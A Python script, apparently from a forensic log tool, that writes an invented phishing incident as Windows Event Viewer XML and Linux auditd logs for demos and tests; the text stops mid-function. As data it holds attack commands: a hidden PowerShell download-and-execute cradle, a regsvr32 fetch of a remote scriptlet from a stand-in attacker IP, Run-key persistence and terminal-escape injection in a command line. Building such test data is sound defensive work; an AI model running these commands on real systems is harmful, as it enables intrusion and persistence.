"""Write proctrail's demo case into sample_logs/: ``python tools/make_sample_logs.py``.

One small made-up incident seen by three logs: the Security and Sysmon logs of the
workstation WS01.corp.example as Event Viewer XML exports, and the raw auditd log of the
Linux server lnx01. The script also writes docs/sample_logs.md (what the case holds) and
tests/data/sample_logs_truth.json (the counts an ingest must find). Standard library only
and seeded: every run writes the same bytes. Every name, address, hash and GUID in the
case is invented; addresses are documentation ranges (203.0.113.0/24, 198.51.100.0/24).
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
LOGS = ROOT / "sample_logs"
TRUTH = ROOT / "tests" / "data" / "sample_logs_truth.json"
DOC = ROOT / "docs" / "sample_logs.md"
SEED = 20261102

SECURITY_FILE = "WS01-Security.xml"
SYSMON_FILE = "WS01-Sysmon.xml"
AUDIT_FILE = "lnx01-audit.log"

# --- time ---------------------------------------------------------------------------------

DAY = datetime(2026, 11, 2, tzinfo=UTC)
DAY_EPOCH = int(DAY.timestamp())
TICKS = 10_000_000  # Windows times are in 100 ns ticks; here counted from DAY's midnight


def at(clock: str) -> int:
    """Ticks since midnight of ``HH:MM:SS[.fraction]`` on DAY."""
    whole, _, frac = clock.partition(".")
    h, m, s = (int(x) for x in whole.split(":"))
    return (h * 3600 + m * 60 + s) * TICKS + int(frac.ljust(7, "0")[:7])


def system_time(ticks: int) -> str:
    """``2026-11-02T08:15:02.1234567Z`` as TimeCreated's SystemTime."""
    secs, frac = divmod(ticks, TICKS)
    h, rest = divmod(secs, 3600)
    return f"{DAY:%Y-%m-%d}T{h:02d}:{rest // 60:02d}:{rest % 60:02d}.{frac:07d}Z"


def utc_time(ticks: int) -> str:
    """``2026-11-02 08:15:03.412`` as Sysmon's UtcTime."""
    return system_time(ticks)[:23].replace("T", " ")


def epoch(ticks: int) -> int:
    return DAY_EPOCH + ticks // TICKS


# --- XML ----------------------------------------------------------------------------------

EVENT_NS = "http://schemas.microsoft.com/win/2004/08/events/event"


def xml_text(value: str) -> str:
    """Element text escaped as Windows renders it; control characters as references."""
    out = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return "".join(f"&#x{ord(c):x};" if ord(c) < 32 and c not in "\t\n\r" else c for c in out)


def xml_attr(value: str) -> str:
    """Attribute value escaped for single quotes (Windows quotes attributes with ')."""
    return xml_text(value).replace("'", "&apos;")


@dataclass(frozen=True)
class Provider:
    name: str
    guid: str


SECURITY_AUDITING = Provider(
    "Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"
)
EVENTLOG = Provider("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}")
SYSMON = Provider("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
SECURITY_CHANNEL = "Security"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"


@dataclass
class WinEvent:
    """One rendered-to-be ``<Event>``: its System header values and its data."""

    ticks: int
    provider: Provider
    event_id: int
    version: int
    level: int
    task: int
    keywords: str
    pid: int
    tid: int
    channel: str
    data: list[tuple[str, str]] | None = None
    user_data: str = ""
    activity: str = ""
    user_sid: str = ""
    order: int = 0

    def render(self, record_id: int, computer: str) -> str:
        p = self.provider
        correlation = (
            f"<Correlation ActivityID='{self.activity}'/>" if self.activity else "<Correlation/>"
        )
        security = f"<Security UserID='{self.user_sid}'/>" if self.user_sid else "<Security/>"
        system = (
            f"<System><Provider Name='{xml_attr(p.name)}' Guid='{p.guid}'/>"
            f"<EventID>{self.event_id}</EventID><Version>{self.version}</Version>"
            f"<Level>{self.level}</Level><Task>{self.task}</Task><Opcode>0</Opcode>"
            f"<Keywords>{self.keywords}</Keywords>"
            f"<TimeCreated SystemTime='{system_time(self.ticks)}'/>"
            f"<EventRecordID>{record_id}</EventRecordID>{correlation}"
            f"<Execution ProcessID='{self.pid}' ThreadID='{self.tid}'/>"
            f"<Channel>{xml_text(self.channel)}</Channel><Computer>{xml_text(computer)}</Computer>"
            f"{security}</System>"
        )
        if self.data is not None:
            body = "".join(
                f"<Data Name='{xml_attr(name)}'>{xml_text(value)}</Data>"
                for name, value in self.data
            )
            body = f"<EventData>{body}</EventData>"
        else:
            body = f"<UserData>{self.user_data}</UserData>"
        return f"<Event xmlns='{EVENT_NS}'>{system}{body}</Event>"


def export_xml(events: list[WinEvent], first_record: int, computer: str) -> str:
    """An Event Viewer "Save as XML" export: one ``<Events>`` root, one event a line."""
    events = sorted(events, key=lambda e: (e.ticks, e.order))
    lines = ['<?xml version="1.0" encoding="utf-8"?>', "<Events>"]
    lines += [e.render(first_record + i, computer) for i, e in enumerate(events)]
    lines.append("</Events>")
    return "\n".join(lines) + "\n"


# --- the Windows side ---------------------------------------------------------------------

COMPUTER = "WS01.corp.example"
DOMAIN = "CORP"
DOMAIN_SID = "S-1-5-21-2847413941-1397208133-3126524681"
MACHINE_ID = "4b2e9c1a"  # Sysmon's per-machine first GUID field
BOOT = at("06:58:12.4410000")
LSASS_PID = 716
EVENTLOG_PID = 1376
SYSMON_PID = 3016

MS = "Microsoft Corporation"
WINDOWS = "Microsoft® Windows® Operating System"


@dataclass(frozen=True)
class Account:
    sid: str
    name: str  # as 4688's Subject shows it (SYSTEM is the machine account there)
    domain: str
    logon_id: int
    user: str  # as Sysmon's User shows it
    label: str
    integrity: str
    session: int
    logon_ticks: int


SYSTEM_ACCOUNT = Account(
    "S-1-5-18", "WS01$", DOMAIN, 0x3E7, "NT AUTHORITY\\SYSTEM", "S-1-16-16384", "System", 0, BOOT
)
ALICE = Account(
    f"{DOMAIN_SID}-1104", "alice", DOMAIN, 0x5B3F21, "CORP\\alice", "S-1-16-8192", "Medium", 1,
    at("08:14:52.3021458"),
)
ITADMIN_SID = f"{DOMAIN_SID}-1107"
ITADMIN_LOGON = 0x4B1A2C

# FileVersion, Description, Product, Company, OriginalFileName (Sysmon 1), by image.
VERSION_INFO: dict[str, tuple[str, str, str, str, str]] = {
    "userinit.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Userinit Logon Application",
                     WINDOWS, MS, "USERINIT.EXE"),
    "explorer.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Windows Explorer", WINDOWS, MS,
                     "EXPLORER.EXE"),
    "outlook.exe": ("16.0.17928.20114", "Microsoft Outlook", "Microsoft Outlook", MS,
                    "Outlook.exe"),
    "winword.exe": ("16.0.17928.20114", "Microsoft Word", "Microsoft Office", MS, "WinWord.exe"),
    "powershell.exe": ("10.0.19041.3996 (WinBuild.160101.0800)", "Windows PowerShell", WINDOWS,
                       MS, "PowerShell.EXE"),
    "conhost.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Console Window Host", WINDOWS,
                    MS, "CONHOST.EXE"),
    "regsvr32.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Microsoft(C) Register Server",
                     WINDOWS, MS, "REGSVR32.EXE"),
    "ftp.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "File Transfer Program", WINDOWS, MS,
                "ftp.exe"),
    "updater.exe": ("?", "?", "?", "?", "?"),
    "reg.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Registry Console Tool", WINDOWS, MS,
                "reg.exe"),
    "cmd.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Windows Command Processor", WINDOWS,
                MS, "Cmd.Exe"),
    "whoami.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "whoami - displays logged on user "
                   "information", WINDOWS, MS, "whoami.exe"),
    "hostname.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Hostname APP", WINDOWS, MS,
                     "hostname.exe"),
    "svchost.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Host Process for Windows "
                    "Services", WINDOWS, MS, "svchost.exe"),
    "trustedinstaller.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Windows Modules "
                             "Installer", WINDOWS, MS, "TrustedInstaller.exe"),
}


def fake_hash(kind: str, image: str) -> str:
    """A made-up but stable hash of ``kind`` for an image (upper case, as Sysmon prints)."""
    digest = hashlib.new(kind if kind != "imphash" else "md5")
    digest.update(f"proctrail-demo:{kind}:{image.lower()}".encode())
    return digest.hexdigest().upper()


@dataclass
class Proc:
    """A Windows process of the case; ``logged`` is False for one started before the logs."""

    pid: int
    image: str
    cmd: str
    start: int
    account: Account
    cwd: str
    parent: Proc | None = None
    end: int | None = None
    logged: bool = True
    guid: str = ""

    @property
    def base(self) -> str:
        return self.image.rsplit("\\", 1)[-1].lower()


def sysmon_guid(ticks: int, counter: int, tail: str) -> str:
    """A Sysmon-style GUID: machine id, Unix time (low word first), a counter, a tail."""
    t = epoch(ticks)
    return f"{{{MACHINE_ID}-{t & 0xFFFF:04x}-{t >> 16:04x}-{counter:04x}-{tail}}}"


def logon_guid(account: Account) -> str:
    """Sysmon's LogonGuid: the logon time, then the logon id's bytes (little-endian)."""
    t = epoch(account.logon_ticks)
    raw = account.logon_id.to_bytes(8, "little").hex()
    return f"{{{MACHINE_ID}-{t & 0xFFFF:04x}-{t >> 16:04x}-{raw[:4]}-{raw[4:]}}}"


class Windows:
    """Builds the Security and Sysmon events of WS01."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.security: list[WinEvent] = []
        self.sysmon: list[WinEvent] = []
        self.procs: list[Proc] = []
        self._counter = 0x0A10
        self._order = 0
        self.winlogon = self._existing(0x2A4, "C:\\Windows\\System32\\winlogon.exe",
                                       "winlogon.exe", BOOT + 61 * TICKS)
        self.services = self._existing(0x2E8, "C:\\Windows\\System32\\services.exe",
                                       "C:\\Windows\\system32\\services.exe", BOOT + 58 * TICKS)

    # -- helpers ---------------------------------------------------------------------------

    def _existing(self, pid: int, image: str, cmd: str, start: int) -> Proc:
        proc = Proc(pid, image, cmd, start, SYSTEM_ACCOUNT, "C:\\Windows\\system32\\",
                    logged=False)
        proc.guid = self._guid(start)
        return proc

    def _guid(self, start: int) -> str:
        self._counter += self.rng.randint(1, 9)
        counter = int.from_bytes(self._counter.to_bytes(2, "little"), "big")
        return sysmon_guid(start, counter, "000000000b00")

    def _next(self) -> int:
        self._order += 1
        return self._order

    def _tid(self, low: int, high: int) -> int:
        return self.rng.randrange(low, high, 4)

    def _sec(self, ticks: int, event_id: int, version: int, task: int, pid: int,
             data: list[tuple[str, str]], activity: str = "") -> None:
        self.security.append(WinEvent(
            ticks, SECURITY_AUDITING, event_id, version, 0, task, "0x8020000000000000", pid,
            self._tid(600, 9000), SECURITY_CHANNEL, data, activity=activity, order=self._next()))

    def _sysmon(self, ticks: int, event_id: int, version: int, data: list[tuple[str, str]],
                delay_ms: int) -> None:
        self.sysmon.append(WinEvent(
            ticks + delay_ms * 10_000 + self.rng.randrange(10_000), SYSMON, event_id, version, 4,
            event_id, "0x8000000000000000", SYSMON_PID, 4012, SYSMON_CHANNEL, data,
            user_sid="S-1-5-18", order=self._next()))

    def _activity(self) -> str:
        b = self.rng.getrandbits(128).to_bytes(16, "big").hex()
        return f"{{{b[:8]}-{b[8:12]}-{b[12:16]}-{b[16:20]}-{b[20:]}}}".upper()

    @staticmethod
    def _subject(account: Account) -> list[tuple[str, str]]:
        return [("SubjectUserSid", account.sid), ("SubjectUserName", account.name),
                ("SubjectDomainName", account.domain),
                ("SubjectLogonId", hex(account.logon_id))]

    # -- Security events -------------------------------------------------------------------

    def log_cleared(self, ticks: int) -> None:
        user_data = (
            "<LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>"
            f"<SubjectUserSid>{ITADMIN_SID}</SubjectUserSid>"
            "<SubjectUserName>itadmin</SubjectUserName>"
            f"<SubjectDomainName>{DOMAIN}</SubjectDomainName>"
            f"<SubjectLogonId>{hex(ITADMIN_LOGON)}</SubjectLogonId></LogFileCleared>"
        )
        self.security.append(WinEvent(
            ticks, EVENTLOG, 1102, 0, 4, 104, "0x4020000000000000", EVENTLOG_PID, 5240,
            SECURITY_CHANNEL, None, user_data=user_data, order=self._next()))

    def logon(self, ticks: int, account: Account, logon_type: int) -> None:
        """4624 (and 4672 for SYSTEM): type 5 service logon or type 2 interactive."""
        activity = self._activity()
        if logon_type == 5:
            target = [("TargetUserSid", "S-1-5-18"), ("TargetUserName", "SYSTEM"),
                      ("TargetDomainName", "NT AUTHORITY"), ("TargetLogonId", "0x3e7")]
            how = [("LogonType", "5"), ("LogonProcessName", "Advapi  "),
                   ("AuthenticationPackageName", "Negotiate"), ("WorkstationName", "-"),
                   ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
                   ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", "0"),
                   ("ProcessId", hex(self.services.pid)), ("ProcessName", self.services.image),
                   ("IpAddress", "-"), ("IpPort", "-")]
            elevated = "%%1842"
        else:
            target = [("TargetUserSid", account.sid), ("TargetUserName", account.name),
                      ("TargetDomainName", account.domain),
                      ("TargetLogonId", hex(account.logon_id))]
            how = [("LogonType", str(logon_type)), ("LogonProcessName", "User32 "),
                   ("AuthenticationPackageName", "Negotiate"), ("WorkstationName", "WS01"),
                   ("LogonGuid", self._activity().lower()), ("TransmittedServices", "-"),
                   ("LmPackageName", "-"), ("KeyLength", "0"), ("ProcessId", "0x644"),
                   ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
                   ("IpAddress", "127.0.0.1"), ("IpPort", "0")]
            elevated = "%%1843"  # alice is not an administrator: no split token, no 4672
        data = [*self._subject(SYSTEM_ACCOUNT), *target, *how,
                ("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "-"),
                ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
                ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"),
                ("ElevatedToken", elevated)]
        self._sec(ticks, 4624, 2, 12544, LSASS_PID, data, activity)
        if logon_type == 5:
            privileges = "\n\t\t\t".join((
                "SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege", "SeSecurityPrivilege",
                "SeTakeOwnershipPrivilege", "SeLoadDriverPrivilege", "SeBackupPrivilege",
                "SeRestorePrivilege", "SeDebugPrivilege", "SeAuditPrivilege",
                "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege",
                "SeDelegateSessionUserImpersonatePrivilege"))
            subject = [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "SYSTEM"),
                       ("SubjectDomainName", "NT AUTHORITY"), ("SubjectLogonId", "0x3e7")]
            self._sec(ticks + 187, 4672, 0, 12548, LSASS_PID,
                      [*subject, ("PrivilegeList", privileges)], activity)

    def logoff(self, ticks: int, account: Account) -> None:
        data = [("TargetUserSid", account.sid), ("TargetUserName", account.name),
                ("TargetDomainName", account.domain), ("TargetLogonId", hex(account.logon_id)),
                ("LogonType", "2")]
        self._sec(ticks, 4634, 0, 12545, LSASS_PID, data)

    # -- processes -------------------------------------------------------------------------

    def start(self, clock: str, pid: int, image: str, cmd: str, parent: Proc,
              account: Account | None = None, cwd: str = "") -> Proc:
        """A process start: 4688 in Security, Sysmon 1 in Sysmon (same PID and time)."""
        ticks = at(clock)
        account = account or parent.account
        proc = Proc(pid, image, cmd, ticks, account, cwd or parent.cwd, parent)
        proc.guid = self._guid(ticks)
        self.procs.append(proc)
        # 4688: the Subject is the creator's account; Target is the new process's account
        # when the creator made it with another token (winlogon starting userinit).
        creator = parent.account
        if creator is account:
            target = [("TargetUserSid", "S-1-0-0"), ("TargetUserName", "-"),
                      ("TargetDomainName", "-"), ("TargetLogonId", "0x0")]
        else:
            target = [("TargetUserSid", account.sid), ("TargetUserName", account.name),
                      ("TargetDomainName", account.domain),
                      ("TargetLogonId", hex(account.logon_id))]
        data = [*self._subject(creator), ("NewProcessId", hex(pid)), ("NewProcessName", image),
                ("TokenElevationType", "%%1936"), ("ProcessId", hex(parent.pid)),
                ("CommandLine", cmd), *target, ("ParentProcessName", parent.image),
                ("MandatoryLabel", account.label)]
        self._sec(ticks + self.rng.randrange(2_000, 30_000), 4688, 2, 13312, 4, data)
        version, description, product, company, original = VERSION_INFO[proc.base]
        hashes = ",".join(f"{k.upper()}={fake_hash(k, image)}"
                          for k in ("sha1", "md5", "sha256", "imphash"))
        self._sysmon(ticks, 1, 5, [
            ("RuleName", "-"), ("UtcTime", utc_time(ticks)), ("ProcessGuid", proc.guid),
            ("ProcessId", str(pid)), ("Image", image), ("FileVersion", version),
            ("Description", description), ("Product", product), ("Company", company),
            ("OriginalFileName", original), ("CommandLine", cmd),
            ("CurrentDirectory", proc.cwd), ("User", account.user),
            ("LogonGuid", logon_guid(account)), ("LogonId", hex(account.logon_id)),
            ("TerminalSessionId", str(account.session)), ("IntegrityLevel", account.integrity),
            ("Hashes", hashes), ("ParentProcessGuid", parent.guid),
            ("ParentProcessId", str(parent.pid)), ("ParentImage", parent.image),
            ("ParentCommandLine", parent.cmd), ("ParentUser", parent.account.user),
        ], delay_ms=self.rng.randrange(2, 40))
        return proc

    def exit(self, clock: str, proc: Proc) -> None:
        """A process end: 4689 in Security, Sysmon 5 in Sysmon."""
        ticks = at(clock)
        proc.end = ticks
        data = [*self._subject(proc.account), ("Status", "0x0"), ("ProcessId", hex(proc.pid)),
                ("ProcessName", proc.image)]
        self._sec(ticks + self.rng.randrange(1_000, 20_000), 4689, 0, 13313, 4, data)
        self._sysmon(ticks, 5, 3, [
            ("RuleName", "-"), ("UtcTime", utc_time(ticks)), ("ProcessGuid", proc.guid),
            ("ProcessId", str(proc.pid)), ("Image", proc.image), ("User", proc.account.user),
        ], delay_ms=self.rng.randrange(2, 30))

    def dns(self, clock: str, proc: Proc, name: str, result: str) -> None:
        ticks = at(clock)
        self._sysmon(ticks, 22, 5, [
            ("RuleName", "-"), ("UtcTime", utc_time(ticks)), ("ProcessGuid", proc.guid),
            ("ProcessId", str(proc.pid)), ("QueryName", name), ("QueryStatus", "0"),
            ("QueryResults", result), ("Image", proc.image), ("User", proc.account.user),
        ], delay_ms=self.rng.randrange(40, 400))

    def connect(self, clock: str, proc: Proc, src: tuple[str, int], dst: tuple[str, int],
                port_name: str) -> None:
        ticks = at(clock)
        self._sysmon(ticks, 3, 5, [
            ("RuleName", "-"), ("UtcTime", utc_time(ticks)), ("ProcessGuid", proc.guid),
            ("ProcessId", str(proc.pid)), ("Image", proc.image), ("User", proc.account.user),
            ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
            ("SourceIp", src[0]), ("SourceHostname", COMPUTER), ("SourcePort", str(src[1])),
            ("SourcePortName", "-"), ("DestinationIsIpv6", "false"), ("DestinationIp", dst[0]),
            ("DestinationHostname", "-"), ("DestinationPort", str(dst[1])),
            ("DestinationPortName", port_name),
        ], delay_ms=1200 + self.rng.randrange(400))


PS_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://updates.example.com/check.ps1')"
PS_ENCODED = base64.b64encode(PS_SCRIPT.encode("utf-16-le")).decode("ascii")
HOSTILE_CMD = "cmd.exe /c echo [bold red]x[/bold red] \x1b[31mupdate ok\x1b[0m"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SYSTEM32 = "C:\\Windows\\System32\\"
WS01_IP = "198.51.100.45"
ATTACKER_IP = "203.0.113.7"


def build_windows(rng: random.Random) -> Windows:
    """The WS01 story, in time order."""
    w = Windows(rng)
    services = w.services

    # The Security log was cleared by the IT admin during maintenance: it starts here, so
    # winlogon.exe and services.exe (started at boot) never appear as started.
    w.log_cleared(at("07:58:41.6021337"))

    # Background: services.exe starts Windows Update as SYSTEM (logon 0x3e7).
    w.logon(at("08:12:03.2047710"), SYSTEM_ACCOUNT, 5)
    w.start("08:12:03.2151", 0x1A34, f"{SYSTEM32}svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", services)

    # alice logs on at the console; winlogon starts userinit, userinit starts explorer.
    w.logon(ALICE.logon_ticks, ALICE, 2)
    userinit = w.start("08:14:53.0213", 0x1E0C, f"{SYSTEM32}userinit.exe",
                       "C:\\Windows\\system32\\userinit.exe", w.winlogon, ALICE)
    explorer = w.start("08:14:53.9480", 0x1F7C, "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", userinit)
    w.exit("08:15:24.1167", userinit)
    outlook = w.start("08:15:40.6124", 0x2368, f"{OFFICE}OUTLOOK.EXE",
                      f'"{OFFICE}OUTLOOK.EXE" ', explorer, cwd=OFFICE)

    # The phishing attachment: Outlook opens a Word document, Word starts PowerShell.
    doc = ("C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
           "\\K3P9QZ7T\\Invoice_2026-1102.doc")
    winword = w.start("08:21:14.2290", 0x25D0, f"{OFFICE}WINWORD.EXE",
                      f'"{OFFICE}WINWORD.EXE" /n "{doc}" /o ""', outlook)
    ps_image = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
    powershell = w.start("08:21:31.4123", 0x1B6C, ps_image,
                         f"powershell.exe -NoP -WindowStyle Hidden -enc {PS_ENCODED}", winword,
                         cwd="C:\\Users\\alice\\Documents\\")
    conhost = w.start("08:21:31.4460", 0x1874, f"{SYSTEM32}conhost.exe",
                      "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", powershell,
                      cwd="C:\\Windows")
    w.dns("08:21:32.8871", powershell, "updates.example.com", f"::ffff:{ATTACKER_IP};")
    regsvr32 = w.start("08:21:36.2034", 0x1C28, f"{SYSTEM32}regsvr32.exe",
                       '"C:\\Windows\\system32\\regsvr32.exe" /s /n /u '
                       f"/i:http://{ATTACKER_IP}/payload.sct scrobj.dll", powershell)
    w.exit("08:21:38.9310", regsvr32)
    ftp = w.start("08:21:41.1178", 0x1F40, f"{SYSTEM32}ftp.exe",
                  '"C:\\Windows\\system32\\ftp.exe" '
                  "-s:C:\\Users\\alice\\AppData\\Local\\Temp\\script.txt", powershell)
    w.exit("08:21:44.7052", ftp)

    # The dropped binary: it calls home, persists in the Run key, looks around.
    updater = w.start("08:21:47.3391", 0x2114, "C:\\Users\\Public\\updater.exe",
                      '"C:\\Users\\Public\\updater.exe"', powershell)
    w.connect("08:21:49.8120", updater, (WS01_IP, 50213), (ATTACKER_IP, 443), "https")
    reg = w.start("08:21:52.6010", 0xF9C, f"{SYSTEM32}reg.exe",
                  "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater "
                  "/t REG_SZ /d C:\\Users\\Public\\updater.exe /f", updater,
                  cwd="C:\\Users\\Public\\")
    w.exit("08:21:52.7321", reg)
    cmd = w.start("08:22:05.0044", 0x26E4, f"{SYSTEM32}cmd.exe",
                  'cmd.exe /c "whoami /all > C:\\Users\\Public\\w.txt & '
                  'hostname >> C:\\Users\\Public\\w.txt"', updater, cwd="C:\\Users\\Public\\")
    whoami = w.start("08:22:05.1102", 0x2404, f"{SYSTEM32}whoami.exe", "whoami /all", cmd)
    w.exit("08:22:05.4187", whoami)
    hostname = w.start("08:22:05.5021", 0x1298, f"{SYSTEM32}HOSTNAME.EXE", "hostname", cmd)
    w.exit("08:22:05.5713", hostname)
    w.exit("08:22:05.6290", cmd)
    # Hostile text: Rich markup and an ANSI escape in a command line.
    hostile = w.start("08:22:10.2207", 0xB34, f"{SYSTEM32}cmd.exe", HOSTILE_CMD, updater,
                      cwd="C:\\Users\\Public\\")
    w.exit("08:22:10.3019", hostile)
    w.exit("08:22:14.0306", powershell)
    w.exit("08:22:14.0922", conhost)

    # Background: TrustedInstaller comes and goes; BITS starts with ftp.exe's old PID.
    w.logon(at("08:26:40.5120093"), SYSTEM_ACCOUNT, 5)
    trusted = w.start("08:26:40.5262", 0x11AC, "C:\\Windows\\servicing\\TrustedInstaller.exe",
                      "C:\\Windows\\servicing\\TrustedInstaller.exe", services)
    w.logon(at("08:31:12.8004411"), SYSTEM_ACCOUNT, 5)
    w.start("08:31:12.8139", 0x1F40, f"{SYSTEM32}svchost.exe",
            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS", services)
    w.exit("08:36:41.9035", trusted)

    # alice closes Word, then signs out: her processes end, then her logon session.
    w.exit("08:47:30.2571", winword)
    w.exit("08:52:05.8140", outlook)
    w.exit("08:52:06.1032", updater)
    w.exit("08:52:06.9218", explorer)
    w.logoff(at("08:52:07.4410256"), ALICE)
    return w


# --- the Linux side: raw auditd -----------------------------------------------------------

NODE = "lnx01"
UNSET = 4294967295
SSH_CLIENT = "203.0.113.50"
LD_SO = "/lib64/ld-linux-x86-64.so.2"


def audit_str(value: str | bytes) -> str:
    """A value as the kernel logs untrusted strings: quoted, or hex if it must be."""
    raw = value.encode() if isinstance(value, str) else value
    if any(b == 0x22 or b < 0x21 or b > 0x7E for b in raw):
        return raw.hex().upper()
    return f'"{raw.decode()}"'


@dataclass
class Ids:
    """The identity fields of a Linux process in SYSCALL records."""

    auid: int
    uid: int
    tty: str
    ses: int


class Audit:
    """Builds the raw audit.log of lnx01, event by event in time order."""

    def __init__(self, rng: random.Random, first_serial: int) -> None:
        self.rng = rng
        self.serial = first_serial
        self.lines: list[str] = []
        self.counts: Counter[str] = Counter()
        self.last_ms = 0

    def _stamp(self, clock: str) -> str:
        ms = at(clock) // 10_000
        assert ms >= self.last_ms, f"audit events out of order at {clock}"
        self.last_ms = ms
        self.serial += 1
        return f"{DAY_EPOCH + ms // 1000}.{ms % 1000:03d}:{self.serial}"

    def _emit(self, stamp: str, records: list[tuple[str, str]]) -> None:
        for rtype, body in records:
            self.lines.append(f"node={NODE} type={rtype} msg=audit({stamp}): {body}")

    def _pointers(self) -> tuple[str, str, str]:
        """execve's filename, argv and envp: heap addresses close to one another."""
        base = self.rng.randrange(0x55A000000000, 0x55FFFFFF0000, 8)
        a0, a1, a2 = (base + self.rng.randrange(0, 0x2000, 8) for _ in range(3))
        return f"{a0:x}", f"{a1:x}", f"{a2:x}"

    @staticmethod
    def _who(ids: Ids, ppid: int, pid: int) -> str:
        gid = ids.uid
        return (f"ppid={ppid} pid={pid} auid={ids.auid} uid={ids.uid} gid={gid} euid={ids.uid} "
                f"suid={ids.uid} fsuid={ids.uid} egid={gid} sgid={gid} fsgid={gid} "
                f"tty={ids.tty} ses={ids.ses}")

    @staticmethod
    def _inode(path: str) -> int:
        return 1_048_576 + int(hashlib.sha256(path.encode()).hexdigest()[:6], 16)

    def user(self, clock: str, rtype: str, pid: int, ids: Ids, op: str, grantors: str,
             acct: str, exe: str, host: str, terminal: str) -> None:
        """A PAM record (USER_ACCT, CRED_ACQ, USER_START...): no syscall, event id 0."""
        detail = f"op={op}" + (f" grantors={grantors}" if grantors else "")
        body = (f"pid={pid} uid=0 auid={ids.auid} ses={ids.ses} subj=unconfined "
                f"msg='{detail} acct={audit_str(acct)} exe={audit_str(exe)} hostname={host} "
                f"addr={host} terminal={terminal} res=success'")
        self._emit(self._stamp(clock), [(rtype, body)])
        self.counts["auditd/0"] += 1

    def user_login(self, clock: str, pid: int, ids: Ids, uid: int, exe: str, host: str,
                   terminal: str) -> None:
        body = (f"pid={pid} uid=0 auid={ids.auid} ses={ids.ses} subj=unconfined "
                f"msg='op=login id={uid} exe={audit_str(exe)} hostname={host} addr={host} "
                f"terminal={terminal} res=success'")
        self._emit(self._stamp(clock), [("USER_LOGIN", body)])
        self.counts["auditd/0"] += 1

    def login(self, clock: str, pid: int, auid: int, ses: int) -> None:
        body = (f"pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={auid} tty=(none) "
                f"old-ses={UNSET} ses={ses} res=1")
        self._emit(self._stamp(clock), [("LOGIN", body)])
        self.counts["auditd/0"] += 1

    def execve(self, clock: str, ppid: int, pid: int, ids: Ids, argv: list[str], exe: str,
               cwd: str, paths: list[str], comm: str = "") -> None:
        """A successful execve: SYSCALL, EXECVE, CWD, PATH per item, PROCTITLE."""
        comm = comm or exe.rsplit("/", 1)[-1]
        items = [*paths, LD_SO]
        a0, a1, a2 = self._pointers()
        syscall = (f"arch=c000003e syscall=59 success=yes exit=0 a0={a0} a1={a1} a2={a2} "
                   f"a3={self.rng.choice((0, 8, 1))} "
                   f"items={len(items)} {self._who(ids, ppid, pid)} comm={audit_str(comm[:15])} "
                   f'exe={audit_str(exe)} subj=unconfined key="exec"')
        args = " ".join(f"a{i}={audit_str(a)}" for i, a in enumerate(argv))
        records = [("SYSCALL", syscall), ("EXECVE", f"argc={len(argv)} {args}"),
                   ("CWD", f"cwd={audit_str(cwd)}")]
        for i, path in enumerate(items):
            records.append(("PATH", (
                f"item={i} name={audit_str(path)} inode={self._inode(path)} dev=fd:00 "
                "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
                "cap_fe=0 cap_fver=0 cap_frootid=0")))
        records.append(("PROCTITLE", self._proctitle(argv)))
        self._emit(self._stamp(clock), records)
        self.counts["auditd/59"] += 1

    def exit(self, clock: str, ppid: int, pid: int, ids: Ids, argv: list[str], exe: str,
             comm: str = "", status: int = 0) -> None:
        """exit_group: it does not return, so the record has no success= or exit=."""
        comm = comm or exe.rsplit("/", 1)[-1]
        syscall = (f"arch=c000003e syscall=231 a0={status:x} a1={self.rng.randrange(0x3c, 0xe8):x} "
                   f"a2=3c a3={self.rng.randrange(0x10, 0x7f0):x} items=0 "
                   f"{self._who(ids, ppid, pid)} comm={audit_str(comm[:15])} "
                   f'exe={audit_str(exe)} subj=unconfined key="exit"')
        self._emit(self._stamp(clock),
                   [("SYSCALL", syscall), ("PROCTITLE", self._proctitle(argv))])
        self.counts["auditd/231"] += 1

    @staticmethod
    def _proctitle(argv: list[str]) -> str:
